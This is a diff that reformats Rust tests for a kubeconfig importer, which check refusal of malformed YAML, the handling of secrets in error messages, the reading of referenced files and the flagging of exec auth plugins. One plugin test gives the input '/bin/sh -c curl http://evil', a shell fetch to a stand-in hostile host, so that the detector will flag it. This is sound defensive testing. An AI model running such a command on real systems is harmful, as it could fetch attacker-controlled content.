@@ -11,7 +11,11 @@ use super::*;
 
 fn ca_pem() -> String {
     let key = rcgen::KeyPair::generate().unwrap();
-    rcgen::CertificateParams::new(vec!["ca".to_owned()]).unwrap().self_signed(&key).unwrap().pem()
+    rcgen::CertificateParams::new(vec!["ca".to_owned()])
+        .unwrap()
+        .self_signed(&key)
+        .unwrap()
+        .pem()
 }
 
 fn key_pem() -> String {
@@ -26,7 +30,10 @@ fn config(cluster: &str, user: &str) -> String {
 }
 
 fn good_cluster() -> String {
-    format!("{{server: 'https://a.example:6443', certificate-authority-data: {}}}", STANDARD.encode(ca_pem()))
+    format!(
+        "{{server: 'https://a.example:6443', certificate-authority-data: {}}}",
+        STANDARD.encode(ca_pem())
+    )
 }
 
 fn with_user(user: &str) -> String {
@@ -49,7 +56,11 @@ fn contexts_that_must_not_be_imported_are_refused() {
     let ca = STANDARD.encode(ca_pem());
     let cert = STANDARD.encode(ca_pem());
     let key = STANDARD.encode(key_pem());
-    let server = |server: &str| with_cluster(&format!("{{server: \"{server}\", certificate-authority-data: {ca}}}"));
+    let server = |server: &str| {
+        with_cluster(&format!(
+            "{{server: \"{server}\", certificate-authority-data: {ca}}}"
+        ))
+    };
     let exec = |exec: &str| with_user(&format!("{{exec: {{{exec}}}}}"));
     let v1 = "apiVersion: client.authentication.k8s.io/v1";
     let table = [
@@ -130,45 +141,97 @@ fn files_that_are_no_kubeconfig_are_refused_with_a_position_and_without_content(
         }
         text + "contexts: [{name: c}]\n"
     };
-    let deep = format!("contexts: {}{}", "[".repeat(200), "]".repeat(200));
+    let deep = format!(
+        "contexts: [{{name: c}}]\npreferences: {}{}\n",
+        "[".repeat(200),
+        "]".repeat(200)
+    );
     let table = [
-        ("duplicate key", "kind: Config\nkind: Config\ncontexts: [{name: hunter2}]\n".to_owned(), Some(DuplicateKey)),
-        ("duplicate token", "users:\n- name: u\n  user:\n    token: hunter2\n    token: other\n".to_owned(), Some(DuplicateKey)),
+        (
+            "duplicate key",
+            "kind: Config\nkind: Config\ncontexts: [{name: hunter2}]\n".to_owned(),
+            Some(DuplicateKey),
+        ),
+        (
+            "duplicate token",
+            "users:\n- name: u\n  user:\n    token: hunter2\n    token: other\n".to_owned(),
+            Some(DuplicateKey),
+        ),
         ("tab", "contexts:\n\t- name: hunter2\n".to_owned(), None),
         ("unclosed", "contexts: [{name: hunter2}\n".to_owned(), None),
         ("unclosed quote", "contexts: 'hunter2\n".to_owned(), None),
         ("list", "- hunter2\n".to_owned(), None),
         ("scalar", "hunter2".to_owned(), None),
-        ("contexts a map", "contexts: {hunter2: x}\n".to_owned(), None),
-        ("name a map", "contexts: [{name: {hunter2: x}}]\n".to_owned(), None),
+        (
+            "contexts a map",
+            "contexts: {hunter2: x}\n".to_owned(),
+            None,
+        ),
+        (
+            "name a map",
+            "contexts: [{name: {hunter2: x}}]\n".to_owned(),
+            None,
+        ),
         ("token a list", with_user("{token: [hunter2]}"), None),
-        ("nameless context", "contexts: [{context: {user: hunter2}}]\n".to_owned(), None),
+        (
+            "nameless context",
+            "contexts: [{context: {user: hunter2}}]\n".to_owned(),
+            None,
+        ),
         ("alias bomb", bomb, Some(Excess)),
         ("too deep", deep, Some(Excess)),
-        ("merge keys", "a: &a {kind: Config}\n<<: *a\ncontexts: [{name: c}]\n".to_owned(), Some(Excess)),
-        ("two documents", "contexts: [{name: c}]\n---\ncontexts: [{name: d}]\n".to_owned(), None),
+        (
+            "merge keys",
+            "a: &a {kind: Config}\n<<: *a\ncontexts: [{name: c}]\n".to_owned(),
+            Some(Excess),
+        ),
+        (
+            "two documents",
+            "contexts: [{name: c}]\n---\ncontexts: [{name: d}]\n".to_owned(),
+            None,
+        ),
     ];
     for (what, text, expected) in table {
         let failure = preview(&text, None).unwrap_err();
         match &failure {
             KubeconfigFailure::Malformed { problem, line, .. } => {
-                assert!(expected.is_none_or(|expected| expected == *problem), "{what}: {failure}");
+                assert!(
+                    expected.is_none_or(|expected| expected == *problem),
+                    "{what}: {failure}"
+                );
                 assert!(line.is_some() || *problem == Excess, "{what}: {failure:?}");
             }
             other => panic!("{what}: {other}"),
         }
-        assert!(!failure.to_string().contains("hunter2") && !format!("{failure:?}").contains("hunter2"), "{what}");
+        assert!(
+            !failure.to_string().contains("hunter2") && !format!("{failure:?}").contains("hunter2"),
+            "{what}"
+        );
     }
-    assert_eq!(preview("", None).unwrap_err(), KubeconfigFailure::NotKubeconfig);
-    assert_eq!(preview("kind: Deployment\ncontexts: [{name: c}]", None).unwrap_err(), KubeconfigFailure::NotKubeconfig);
-    assert!(matches!(preview(&" ".repeat(2 << 20), None).unwrap_err(), KubeconfigFailure::TooLarge { .. }));
+    assert_eq!(
+        preview("", None).unwrap_err(),
+        KubeconfigFailure::NotKubeconfig
+    );
+    assert_eq!(
+        preview("kind: Deployment\ncontexts: [{name: c}]", None).unwrap_err(),
+        KubeconfigFailure::NotKubeconfig
+    );
+    assert!(matches!(
+        preview(&" ".repeat(2 << 20), None).unwrap_err(),
+        KubeconfigFailure::TooLarge { .. }
+    ));
 }
 
 #[test]
 fn a_context_twice_is_refused_both_times_and_said() {
     let text = with_user("{token: t}") + "- name: c\n  context: {cluster: k, user: u}\n";
     let found = preview(&text, None).unwrap();
-    assert!(found.contexts.iter().all(|c| c.refused == Some(Refusal::DuplicateName)));
+    assert!(
+        found
+            .contexts
+            .iter()
+            .all(|c| c.refused == Some(Refusal::DuplicateName))
+    );
     assert_eq!(found.warnings, ["the context c occurs 2 times"]);
 }
 
@@ -176,24 +239,43 @@ fn a_context_twice_is_refused_both_times_and_said() {
 fn good_contexts_are_imported_complete() {
     let token = with_user("{token: ' t0ken '}");
     let shown = only(&token);
-    assert_eq!((shown.refused, shown.credential, shown.server.as_str()), (None, ContextKind::Token, "https://a.example:6443"));
+    assert_eq!(
+        (shown.refused, shown.credential, shown.server.as_str()),
+        (None, ContextKind::Token, "https://a.example:6443")
+    );
     assert_eq!(shown.ca_sha256.unwrap().len(), 64);
-    let context = import(&token, None, &["c".to_owned()], false).unwrap().remove(0);
+    let context = import(&token, None, &["c".to_owned()], false)
+        .unwrap()
+        .remove(0);
     assert!(matches!(&context.credential, Credential::Token(t) if t.expose_secret() == "t0ken"));
     assert!(context.ca_pem.contains("BEGIN CERTIFICATE"));
     let (cert, key) = (STANDARD.encode(ca_pem()), STANDARD.encode(key_pem()));
-    let text = with_user(&format!("{{client-certificate-data: {cert}, client-key-data: {key}}}"));
-    assert!(matches!(import(&text, None, &["c".to_owned()], false).unwrap()[0].credential, Credential::Certificate { .. }));
+    let text = with_user(&format!(
+        "{{client-certificate-data: {cert}, client-key-data: {key}}}"
+    ));
+    assert!(matches!(
+        import(&text, None, &["c".to_owned()], false).unwrap()[0].credential,
+        Credential::Certificate { .. }
+    ));
     let text = with_user("{username: u, password: p}");
-    assert!(matches!(import(&text, None, &["c".to_owned()], false).unwrap()[0].credential, Credential::Basic { .. }));
+    assert!(matches!(
+        import(&text, None, &["c".to_owned()], false).unwrap()[0].credential,
+        Credential::Basic { .. }
+    ));
     assert_eq!(only(&with_user("{}")).credential, ContextKind::Anonymous);
-    assert_eq!(import(&text, None, &["d".to_owned()], false).unwrap_err(), KubeconfigFailure::UnknownContext("d".to_owned()));
+    assert_eq!(
+        import(&text, None, &["d".to_owned()], false).unwrap_err(),
+        KubeconfigFailure::UnknownContext("d".to_owned())
+    );
 }
 
 #[test]
 fn the_digest_of_a_ca_does_not_depend_on_its_order() {
     let (a, b) = (ca_pem(), ca_pem());
-    assert_eq!(pem_digest(&format!("{a}{b}")), pem_digest(&format!("{b}\n{a}{a}")));
+    assert_eq!(
+        pem_digest(&format!("{a}{b}")),
+        pem_digest(&format!("{b}\n{a}{a}"))
+    );
     assert_ne!(pem_digest(&a), pem_digest(&b));
 }
 
@@ -208,28 +290,64 @@ fn files_are_read_only_when_allowed_and_only_regular_small_ones() {
     std::fs::write(folder.path().join("token"), "t0ken\n").unwrap();
     std::fs::write(folder.path().join("large"), vec![b'x'; 70_000]).unwrap();
     std::fs::write(folder.path().join("binary"), [0xff, 0xfe]).unwrap();
-    let text = |ca: &str, token: &str| config(&format!("{{server: 'https://a', certificate-authority: '{ca}'}}"), &format!("{{tokenFile: '{token}'}}"));
+    let text = |ca: &str, token: &str| {
+        config(
+            &format!("{{server: 'https://a', certificate-authority: '{ca}'}}"),
+            &format!("{{tokenFile: '{token}'}}"),
+        )
+    };
     let names = ["c".to_owned()];
     let good = text("ca.crt", "token");
     let shown = only(&good);
-    assert_eq!((shown.files, shown.ca_sha256, shown.refused), (vec!["ca.crt".to_owned(), "token".to_owned()], None, None));
-    assert!(matches!(import(&good, Some(folder.path()), &names, false).unwrap_err(), KubeconfigFailure::FilesNotEmbedded { .. }));
-    let context = import(&good, Some(folder.path()), &names, true).unwrap().remove(0);
+    assert_eq!(
+        (shown.files, shown.ca_sha256, shown.refused),
+        (vec!["ca.crt".to_owned(), "token".to_owned()], None, None)
+    );
+    assert!(matches!(
+        import(&good, Some(folder.path()), &names, false).unwrap_err(),
+        KubeconfigFailure::FilesNotEmbedded { .. }
+    ));
+    let context = import(&good, Some(folder.path()), &names, true)
+        .unwrap()
+        .remove(0);
     assert!(matches!(&context.credential, Credential::Token(t) if t.expose_secret() == "t0ken"));
-    let problem = |ca: &str, token: &str, base: Option<&Path>| match import(&text(ca, token), base, &names, true).unwrap_err() {
+    let problem = |ca: &str, token: &str, base: Option<&Path>| match import(
+        &text(ca, token),
+        base,
+        &names,
+        true,
+    )
+    .unwrap_err()
+    {
         KubeconfigFailure::File { problem, .. } => Some(problem),
         KubeconfigFailure::Refused { .. } => None,
         other => panic!("{other}"),
     };
     assert_eq!(problem("ca.crt", "token", None), Some(FileProblem::NoBase));
     let base = Some(folder.path());
-    assert_eq!(problem("ca.crt", "missing", base), Some(FileProblem::Unreadable));
+    assert_eq!(
+        problem("ca.crt", "missing", base),
+        Some(FileProblem::Unreadable)
+    );
     assert_eq!(problem("ca.crt", ".", base), Some(FileProblem::NotRegular));
-    assert_eq!(problem("ca.crt", "large", base), Some(FileProblem::TooLarge));
-    assert_eq!(problem("ca.crt", "binary", base), Some(FileProblem::NotText));
-    assert_eq!(problem("token", "token", base), None, "a CA that is no certificate");
+    assert_eq!(
+        problem("ca.crt", "large", base),
+        Some(FileProblem::TooLarge)
+    );
+    assert_eq!(
+        problem("ca.crt", "binary", base),
+        Some(FileProblem::NotText)
+    );
+    assert_eq!(
+        problem("token", "token", base),
+        None,
+        "a CA that is no certificate"
+    );
     #[cfg(target_os = "linux")]
-    assert_eq!(problem("ca.crt", "/dev/zero", base), Some(FileProblem::NotRegular));
+    assert_eq!(
+        problem("ca.crt", "/dev/zero", base),
+        Some(FileProblem::NotRegular)
+    );
 }
 
 #[test]
@@ -239,24 +357,51 @@ fn a_command_is_shown_word_by_word_with_what_speaks_against_it() {
     let program = folder.path().join("login");
     std::fs::write(&program, "x").unwrap();
     let v1 = "apiVersion: client.authentication.k8s.io/v1";
-    let plugin = |exec: &str| only(&with_user(&format!("{{exec: {{{exec}, {v1}}}}}"))).plugin.unwrap();
-    let shown = plugin(&format!("command: '{}', args: [get-token, --x y], env: [{{name: A, value: hunter2}}]", program.display()));
+    let plugin = |exec: &str| {
+        only(&with_user(&format!("{{exec: {{{exec}, {v1}}}}}")))
+            .plugin
+            .unwrap()
+    };
+    let shown = plugin(&format!(
+        "command: '{}', args: [get-token, --x y], env: [{{name: A, value: hunter2}}]",
+        program.display()
+    ));
     assert_eq!(shown.words[1..], ["get-token", "--x y"]);
-    assert_eq!((shown.environment.as_slice(), shown.concerns.as_slice()), (["A".to_owned()].as_slice(), [].as_slice()));
+    assert_eq!(
+        (shown.environment.as_slice(), shown.concerns.as_slice()),
+        (["A".to_owned()].as_slice(), [].as_slice())
+    );
     assert_eq!(shown.path.as_deref(), Some(program.as_path()));
-    assert_eq!(shown.sha256.as_deref(), Some("2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"));
+    assert_eq!(
+        shown.sha256.as_deref(),
+        Some("2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881")
+    );
     assert!(!format!("{shown:?}").contains("hunter2"));
-    assert_eq!(plugin("command: /bin/sh, args: [-c, 'curl http://evil']").concerns, [Shell, PlainHttp]);
+    assert_eq!(
+        plugin("command: /bin/sh, args: [-c, 'curl http://evil']").concerns,
+        [Shell, PlainHttp]
+    );
     assert_eq!(plugin("command: /no/such/program").concerns, [NotFound]);
-    assert_eq!(plugin("command: ./login").concerns, [RelativePath, NotFound]);
-    assert_eq!(plugin("command: no-such-program-anywhere").concerns, [RelativePath, NotFound]);
+    assert_eq!(
+        plugin("command: ./login").concerns,
+        [RelativePath, NotFound]
+    );
+    assert_eq!(
+        plugin("command: no-such-program-anywhere").concerns,
+        [RelativePath, NotFound]
+    );
     let bare = plugin("command: env");
     assert!(bare.concerns.contains(&Shell) && bare.concerns.contains(&RelativePath));
     #[cfg(unix)]
     assert!(bare.path.unwrap().is_absolute() && bare.sha256.is_some());
-    let legacy = only(&with_user("{auth-provider: {name: gcp, config: {cmd-path: /no/gcloud, cmd-args: config helper}}}"));
+    let legacy = only(&with_user(
+        "{auth-provider: {name: gcp, config: {cmd-path: /no/gcloud, cmd-args: config helper}}}",
+    ));
     assert_eq!(legacy.credential, ContextKind::Plugin);
-    assert_eq!(legacy.plugin.unwrap().concerns, [NotFound, LegacyAuthProvider]);
+    assert_eq!(
+        legacy.plugin.unwrap().concerns,
+        [NotFound, LegacyAuthProvider]
+    );
 }
 
 #[test]
@@ -264,8 +409,13 @@ fn a_relative_command_starts_from_the_kubeconfigs_folder() {
     let folder = tempfile::tempdir().unwrap();
     std::fs::create_dir(folder.path().join("bin")).unwrap();
     std::fs::write(folder.path().join("bin/login"), "x").unwrap();
-    let text = with_user("{exec: {command: bin/login, apiVersion: client.authentication.k8s.io/v1}}");
-    let context = import(&text, Some(folder.path()), &["c".to_owned()], false).unwrap().remove(0);
+    let text =
+        with_user("{exec: {command: bin/login, apiVersion: client.authentication.k8s.io/v1}}");
+    let context = import(&text, Some(folder.path()), &["c".to_owned()], false)
+        .unwrap()
+        .remove(0);
     let expected: PathBuf = folder.path().join("bin/login");
-    assert!(matches!(&context.credential, Credential::Plugin(p) if p.command == expected.to_str().unwrap()));
+    assert!(
+        matches!(&context.credential, Credential::Plugin(p) if p.command == expected.to_str().unwrap())
+    );
 }
